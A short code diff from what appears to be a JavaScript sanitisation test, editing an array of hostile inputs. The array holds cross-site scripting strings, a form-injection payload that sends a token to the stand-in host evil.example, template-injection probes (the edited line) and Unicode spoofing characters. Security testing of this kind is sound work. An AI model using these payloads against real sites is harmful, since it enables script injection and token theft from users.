@@ -12,7 +12,7 @@ const PAYLOADS = [
   '"><script>alert(1)</script>',
   "' onmouseover='alert(1)",
   '</title></main></form><form action="https://evil.example"><input name=token>',
-  '#{7*7} !{7*7} {{7*7}} ${7*7} <%= 7*7 %>',
+  '#{7007*7} !{7007*7} {{7007*7}} ${7007*7} <%= 7007*7 %>',
   '\u202Eevil\u2066<b>\u200B',
 ]
 const PLAIN = 'plain'
